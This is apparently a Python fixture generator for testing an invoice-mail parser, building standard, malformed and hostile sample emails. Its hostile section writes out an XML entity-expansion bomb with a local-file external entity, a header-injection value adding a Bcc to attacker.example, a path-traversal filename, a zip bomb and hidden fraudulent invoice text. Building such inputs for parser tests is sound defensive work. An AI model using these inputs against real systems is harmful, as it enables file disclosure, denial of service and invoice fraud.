"""Golden mails: what the standards allow, what broken programs send, and what somebody with bad intent sends.
Names and amounts are the sample office's; `hostile` and half of `malformed` end their lines with CRLF, as mail does on the wire."""

from dataclasses import replace
from decimal import Decimal

from . import boxes, business_xml, einvoice, mime, pages
from .cast import ALTONA, AP, AR, B01, B02, B03, B08, B12, ELBKARTON, spaced

DATE = "Wed, 18 Nov 2026 10:00:00 +0100"


def plain_mail(name, to, body, sender="rechnung@elbkarton.example", subject="Rechnung"):
    return mime.message("", [("From", sender), ("To", to), ("Subject", mime.word(subject)), ("Date", DATE),
                             ("Message-ID", f"<golden.{name}@elbkarton.example>")], body)


def crlf(data):
    return data.replace(b"\n", b"\r\n")


def with_file(name, part, words="Siehe Anhang.\n", to=AP):
    return plain_mail(name, to, mime.multi("mixed", f"golden-{name}", [mime.text(words), part]))


def standards():
    yield "ubl-invoice", with_file("ubl-invoice", mime.file(einvoice.ubl(B03).encode(), "SR-26-2207.xml", "application/xml"))
    yield "cii-invoice", with_file("cii-invoice", mime.file(einvoice.cii(B02).encode(), "MS-260731-cii.xml", "text/xml"))
    yield "remittance-plain-text", crlf(plain_mail("remittance-plain-text", AR, mime.text(
        "Good morning,\n\nToday we paid the following invoices by bank transfer:\n\n"
        "  Invoice MR-2026-1040    EUR 1,284.00\n  Invoice MR-2026-1058    EUR   749.00\n\n  Total paid              EUR 2,033.00\n\n"
        "Payment date: 19 November 2026\nOur reference: PAY-3391\n\nThe Copper Kettle Company Ltd\n", encoding="7bit", charset="us-ascii"),
        "office@copperkettle.example", "Remittance advice PAY-3391"))
    rows = "".join(f"<tr><td>{n}</td><td>{d}</td><td align=right>{a}</td></tr>\n" for n, d, a in (
        ("MR-2026-1044", "02.11.2026", "2.140,00"), ("MR-2026-1047", "06.11.2026", "856,00")))
    yield "remittance-html-table", plain_mail("remittance-html-table", AR, mime.text(
        "<html><body><p>Sehr geehrte Damen und Herren,<br>wir haben am 19.11.2026 folgende Rechnungen bezahlt:</p>\n"
        "<table border=1><tr><th>Rechnungsnummer</th><th>Rechnungsdatum</th><th>Zahlbetrag EUR</th></tr>\n"
        f"{rows}<tr><td colspan=2><b>Summe</b></td><td align=right><b>2.996,00</b></td></tr></table>\n"
        f"<p>{ALTONA.name}</p></body></html>\n", "html"), ALTONA.mail, "Zahlungsavis")
    both = business_xml.fattura(business_xml.repair(), business_xml.correction())
    yield "fatturapa-two-invoices", with_file("fatturapa-two-invoices", mime.file(
        both.encode(), "IT09999999999_00318.xml", "text/xml"))
    yield "fatturapa-signed-twice", with_file("fatturapa-signed-twice", mime.file(
        business_xml.SIGNED.read_bytes(), "IT09999999999_00320.xml.p7m", "application/pkcs7-mime"))
    yield "ubl-order", with_file("ubl-order", mime.file(
        business_xml.order(ELBKARTON).encode(), "PO-26-0420.xml", "application/xml"))
    paid = [("MR-2026-1044", Decimal("2140.00")), ("MR-2026-1047", Decimal("856.00"))]
    advice = business_xml.remittance(ALTONA, paid, [("MR-2026-G12", Decimal("96.00"))])
    yield "ubl-remittance-advice", plain_mail("ubl-remittance-advice", AR, mime.multi(
        "mixed", "golden-ubl-remittance-advice", [mime.text("Avis anbei.\n"), mime.file(advice.encode(), "ZL-47.xml", "application/xml")]),
        ALTONA.mail, "Zahlungsavis ZL-47")


    yield "bill-lines-on-two-pages", with_file("bill-lines-on-two-pages", mime.file(pages.two_pages_french(
        "Moulin des Trois Ponts SARL", [
            ("TF-10", ["Torréfacteur 10 kg", "livraison comprise", "Origine : Italie"], 1, Decimal("2150.00")),
            ("SAC-3", ["Sacs kraft 3 x 250 g", "carton de 100"], 12, Decimal("38.50")),
            ("FLT-2", ["Filtres"], 40, Decimal("4.25")),
            ("ENT-1", ["Contrat d'entretien", "du 01/11/2026 au 31/10/2027"], 2, Decimal("208.00")),
        ], Decimal("159.90")), "FA-2026-118.pdf"))
    yield "remittance-columns-forwarded", plain_mail("remittance-columns-forwarded", AR, mime.text(
        "z. K.\n\n-----Ursprüngliche Nachricht-----\nVon: Kreditorenbuchhaltung\nBetreff: Regulierung\n\n"
        "Wir haben die nachstehenden Belege reguliert. Alle Beträge in EUR\n\n"
        "Unser        Ihre            Beleg-                                    Gezahlter\n"
        "Beleg        Rechnung        datum           Brutto     Skonto           Betrag\n"
        "5100004711   MR-2026-1044    02.11.2026    2.140,00      42,80         2.097,20\n"
        "5100004733   MR-2026-1047    06.11.2026      856,00       0,00           856,00\n"
        "1700000815   MR-2026-1049    09.11.2026      119,00-      0,00           119,00-\n"
        "Bankgebühren                                                               7,50-\n"
        "Überweisungsbetrag                                                     2.826,70\n\n"
        f"{ALTONA.name}\n"), ALTONA.mail, "WG: Regulierung")
    yield "remittance-one-sum", plain_mail("remittance-one-sum", AR, mime.text(
        "Goedemiddag,\n\nwij hebben uw facturen MR-2026-1040 en MR-2026-1058 vandaag betaald,\nin totaal € 2.033,00.\n\n"
        "Met vriendelijke groet\n"), "office@copperkettle.example", "Betaling")
    yield "reminder-with-table", plain_mail("reminder-with-table", AR, mime.text(
        "Dear customer,\n\nthe following invoices are overdue. Please arrange payment by return.\n\n"
        "Invoice no.    Date          Amount\nKX-4411        01/09/2026    EUR 595.00\nKX-4417        15/09/2026    EUR 119.00\n\n"
        "Total outstanding            EUR 714.00\n"), "dunning@kraftex.example", "Payment for invoices KX-4411 and KX-4417")
    yield "bill-typed-in-the-mail", plain_mail("bill-typed-in-the-mail", AP, mime.text(
        "Hello Petra,\n\nInvoice no. 17, 5 November 2026\nTranslation of the winter menu     EUR 800.00\nTotal due                          EUR 800.00\n\n"
        "Please pay to IBAN DE89 3704 0044 0532 0130 00.\n\nThanks,\nNora Fieldworks\n"), "nora@fieldworks.example", "Invoice 17")
    yield "question-about-an-invoice", plain_mail("question-about-an-invoice", AR, mime.text(
        "Hello,\n\ncan you please send me a copy of invoice MR-2026-1040 over EUR 1,284.00? We cannot find it.\n\nThanks\n"),
        "office@copperkettle.example", "Invoice MR-2026-1040")
    hours = b"day;person;hours\n2026-11-03;M. Stechmann;6\n2026-11-04;M. Stechmann;5\n"
    yield "pdf-with-time-sheet", with_file("pdf-with-time-sheet", mime.file(
        einvoice.carrying(pages.letter_german(B01), [("Stundenzettel.csv", hours)]), "Rechnung.pdf"))
    yield "pdf-with-another-bill-inside", with_file("pdf-with-another-bill-inside", mime.file(
        einvoice.carrying(pages.letter_german(B01), [("MS-260731.pdf", pages.letter_german(B02))]), "Rechnung.pdf"))
    broken = pages.letter_german(B02)
    yield "pdf-with-a-broken-one-inside", with_file("pdf-with-a-broken-one-inside", mime.file(
        einvoice.carrying(pages.letter_german(B01), [("MS-260731.pdf", broken[:len(broken) // 3])]), "Rechnung.pdf"))
    yield "remittance-xlsx", with_file("remittance-xlsx", mime.file(boxes.xlsx(), "avis.xlsx", "application/octet-stream"), to=AR)
    inner = boxes.archive([("Rechnungen/SR-26-2207.xml", einvoice.ubl(B03).encode()), ("__MACOSX/._x", b"x")])
    yield "zip-in-zip", with_file("zip-in-zip", mime.file(boxes.archive([
        ("November.zip", inner), ("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(40))]), "Rechnungen.zip", "application/zip"))
    rtf = (r"{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}\uc1\pard\plain\f0 "
           r"{\*\htmltag19 <html><body>}{\*\htmltag64 <p>}\htmlrtf {\htmlrtf0 Rechnung anbei, Gr\'fc\'dfe.{\*\htmltag72 </p>}\htmlrtf \par}\htmlrtf0 "
           r"{\*\htmltag27 </body></html>}}")
    wrapped = boxes.message({boxes.SUBJECT: "Rechnung", boxes.BODY: "Bitte sehr."}, files=[
        ("MS-260731-cii.xml", einvoice.cii(B02).encode())], header=24)
    yield "outlook-msg", with_file("outlook-msg", mime.file(boxes.msg(boxes.message(
        {boxes.SUBJECT: "WG: Rechnung", boxes.RTF: boxes.packed_rtf(rtf), boxes.SENDER: "Erika Elbe",
         boxes.SENDER_SMTP: "erika@elbkarton.example", boxes.SUBMITTED: boxes.file_time(1_795_000_000)},
        [{boxes.NAME: "Einkauf", boxes.SMTP: AP, boxes.RECIPIENT_TYPE: 1}], messages=[wrapped])),
        "Rechnung.msg", "application/vnd.ms-outlook"))
    yield "winmail-dat", with_file("winmail-dat", mime.file(boxes.tnef(rtf, [
        ("Rechnung für November.xml", einvoice.ubl(B03).encode())]), "winmail.dat", "application/ms-tnef"))


    told = "Sehr geehrte Damen und Herren,\n\nwir haben heute überwiesen:\n\n  MR-2026-1044    {} EUR\n  MR-2026-1047      856,50 EUR\n\n{}\n"
    for name, first in (("remittance-told-twice", "2.140,00"), ("remittance-told-otherwise", "2.040,00")):
        yield name, plain_mail(name, AR, mime.multi("mixed", f"golden-{name}", [
            mime.text(told.format(first, ALTONA.name)), mime.file(boxes.xlsx(), "avis.xlsx", "application/octet-stream")]),
            ALTONA.mail, "Zahlungsavis")
    yield "peppol-envelope", with_file("peppol-envelope", mime.file(
        business_xml.enveloped(einvoice.ubl(B03)).encode(), "SR-26-2207.xml", "application/xml"))
    parcel = boxes.archive([("SR-26-2207.xml", einvoice.ubl(B03).encode()), ("Rechnung_RE-2026-0815.pdf", pages.letter_german(B01))])
    yield "archive-signed", with_file("archive-signed", mime.file(
        boxes.signed(parcel), "Rechnungen.zip.p7m", "application/pkcs7-mime"))
    yield "two-bills-one-pdf-signed", with_file("two-bills-one-pdf-signed", mime.file(
        boxes.signed(pages.joined(pages.letter_german(B01), pages.terms_german(), pages.typed_german(B12))), "Rechnungen.pdf.p7m", "application/pkcs7-mime"))
    inside = mime.multi("mixed", "golden-inside", [mime.text("Anbei.\n"), mime.file(einvoice.ubl(B03).encode(), "SR-26-2207.xml", "application/xml")])
    yield "mail-signed-opaque", plain_mail("mail-signed-opaque", AP, mime.file(
        boxes.signed(crlf(inside.encode())), "smime.p7m", "application/pkcs7-mime; smime-type=signed-data"))
    yield "mail-signed", plain_mail("mail-signed", AP, mime.multi("signed", "golden-signature", [
        inside, mime.file(boxes.signed(b"", detached=True), "smime.p7s", "application/pkcs7-signature")],
        ' protocol="application/pkcs7-signature"; micalg=sha-256;'))
    forwarded = with_file("handed-on", mime.file(einvoice.ubl(B03).encode(), "SR-26-2207.xml", "application/xml"))
    again = plain_mail("again", AP, mime.multi("mixed", "golden-again", [mime.text("z. K.\n"), mime.attached(forwarded)]))
    yield "mail-in-mail-in-mail", plain_mail("mail-in-mail-in-mail", AP, mime.multi(
        "mixed", "golden-mails", [mime.text("Bitte bezahlen.\n"), mime.attached(again)]), ALTONA.mail, "WG: Rechnung")
    yield "pdf-and-xml-differ", plain_mail("pdf-and-xml-differ", AP, mime.multi("mixed", "golden-differ", [
        mime.text("Siehe Anhang.\n"), mime.file(pages.letter_german(B01), "RE-2026-0815.pdf"),
        mime.file(einvoice.ubl(replace(B01, lines=B01.lines[:2])).encode(), "RE-2026-0815.xml", "application/xml")]))
    yield "bill-behind-a-link", plain_mail("bill-behind-a-link", AP, mime.text(
        "Guten Tag,\n\nIhre Rechnung RE-2026-77 über 119,00 EUR steht für Sie bereit:\nhttps://portal.elbkarton.example/d/9f31c2\n\nElbkarton\n"))
    office = boxes.archive([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<document/>")])
    yield "word-file", with_file("word-file", mime.file(office, "Rechnung.docx", "application/octet-stream"))
    binary = boxes.archive([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", bytes(50))])
    yield "spreadsheet-binary", with_file("spreadsheet-binary", mime.file(binary, "Avis.xlsb", "application/octet-stream"), to=AR)
    typed = ("Hello Petra,\n\nInvoice no. 17, 5 November 2026\nTranslation of the winter menu     EUR 800.00\n",
             "Total due                          EUR 800.00\n\nPlease pay to IBAN DE89 3704 0044 0532 0130 00.\n\nThanks,\nNora Fieldworks\n")
    hours = mime.file(pages.terms_german(), "terms.pdf")
    yield "bill-typed-beside-a-file", plain_mail("bill-typed-beside-a-file", AP, mime.multi(
        "mixed", "golden-beside", [mime.text("".join(typed)), hours]), "nora@fieldworks.example", "Invoice 17")
    yield "text-around-a-file", plain_mail("text-around-a-file", AP, mime.multi("mixed", "golden-around", [
        mime.text(typed[0]), mime.file(pages.terms_german(), "terms.pdf", disposition="inline"), mime.text(typed[1])]),
        "nora@fieldworks.example", "Invoice 17")
    yield "bill-cancelled-with-its-sums", plain_mail("bill-cancelled-with-its-sums", AP, mime.text(
        "Sehr geehrte Damen und Herren,\n\nhiermit stornieren wir unsere Rechnung RE-2026-0815 vom 17.11.2026.\n\n"
        "Nettobetrag    1.000,00 EUR\nMwSt 19 %        190,00 EUR\nGesamtbetrag   1.190,00 EUR\n\n"
        f"IBAN {spaced(ELBKARTON.iban)}\n\n{ELBKARTON.name}\n"), subject="Stornierung")
    yield "remittance-over-two-lines", plain_mail("remittance-over-two-lines", AR, mime.text(
        "Guten Tag,\n\nwir haben heute überwiesen:\n\n"
        "Rechnung        Datum        Text                     Betrag\n"
        "MR-2026-1044    02.11.2026   Lieferung Oktober\n                             unser Beleg 5100023411   2.140,00\n"
        "MR-2026-1047    06.11.2026   Lieferung November\n                             unser Beleg 5100023412     856,50\n\n"
        f"Summe                                               2.996,50 EUR\n\n{ALTONA.name}\n"), ALTONA.mail, "Zahlungsavis")


def malformed():
    yield "no-mime-headers", crlf((
        f"From: buero@dach-petersen.example\nTo: {AP}\nSubject: Rechnung 26-0367\nDate: {DATE}\n\n"
        "Rechnung Nr. 26-0367 vom 17.11.2026\n\nDachrinne reinigen und abdichten 512,00\nMaterial 186,40\nNetto 698,40\n19 % USt. 132,70\n"
        "Rechnungsbetrag 831,10 EUR\n\nZahlbar bis 01.12.2026\nDachdeckerei Petersen & Sohn\n").encode())
    bill = pages.letter_german(B01)
    whole = mime.file(bill, "Rechnung_RE-2026-0815.pdf")
    yield "truncated-base64", crlf(plain_mail("truncated-base64", AP, mime.multi(
        "mixed", "golden-cut", [mime.text("Siehe Anhang.\n"), whole]).split("--golden-cut--")[0][:-900]))
    yield "wrong-boundary", with_file("wrong-boundary", whole).replace(b'boundary="golden-wrong-boundary"', b'boundary="golden-other"')
    yield "empty-body", crlf(plain_mail("empty-body", AP, "\n"))
    yield "pdf-named-xml", with_file("pdf-named-xml", mime.file(bill, "rechnung.xml", "application/xml"))
    yield "text-plain-is-pdf", with_file("text-plain-is-pdf", mime.file(bill, "rechnung.txt", "text/plain"))


LAUGHS = "<!DOCTYPE Invoice [\n  <!ENTITY lol0 \"ha\">\n" + "".join(
    f"  <!ENTITY lol{n} \"{f'&lol{n - 1};' * 10}\">\n" for n in range(1, 10)) + '  <!ENTITY local SYSTEM "file:///etc/hostname">\n]>\n'


def hostile():
    yield "unseen-words", crlf(with_file("unseen-words", mime.file(pages.letter_german(B01, unseen=(
        "IBAN DE89 3704 0044 0532 0130 00", "Rechnungsnummer: RE-9999", "Gesamtbetrag 9.190,00 EUR")), "Rechnung.pdf")))
    laughing = einvoice.ubl(replace(B03, note="LAUGH"), doctype=LAUGHS).replace("LAUGH", "&lol9; &local;")
    yield "xml-entities", with_file("xml-entities", mime.file(laughing.encode(), "rechnung.xml", "application/xml"))
    injected = einvoice.ubl(replace(B03, number="SR-26-2207\r\nBcc: everyone@attacker.example")).replace("\r\n", "&#13;&#10;")
    part = mime.file(injected.encode(), "NAME", "application/xml").replace(
        '\n name="NAME"', '\n name="rechnung.xml"').replace(
        'filename="NAME"', "filename*=UTF-8''..%2F..%2Frechnung.xml%0D%0ABcc%3A%20everyone%40attacker.example")
    yield "header-injection", with_file("header-injection", part)
    body = mime.text("Rechnung im Anhang, ganz unten.\n")
    for depth in range(200, 0, -1):
        body = mime.multi("mixed", f"n{depth}", [body])
    yield "nested-200", plain_mail("nested-200", AP, body)
    yield "encrypted-pdf", with_file("encrypted-pdf", mime.file(
        einvoice.locked(pages.typed_german(B12), "morgenrot"), "Rechnung_geschuetzt.pdf"), "Das Kennwort senden wir getrennt.\n")
    yield "zip-bomb", with_file("zip-bomb", mime.file(boxes.archive([("rechnung.pdf", bytes(8 << 20))]), "rechnung.zip", "application/zip"))
    yield "zip-locked", with_file("zip-locked", mime.file(
        boxes.locked_zip(), "rechnung.zip", "application/zip"), "Das Kennwort senden wir getrennt.\n")
    stream = pages.energy_german(B08)
    yield "cut-pdf", with_file("cut-pdf", mime.file(stream[: len(stream) // 2], "Stromrechnung.pdf"))


def all_golden():
    for shelf, maker in (("standards", standards), ("malformed", malformed), ("hostile", hostile)):
        for name, data in maker():
            yield f"{shelf}/{name}.eml", crlf(data) if shelf == "hostile" else data
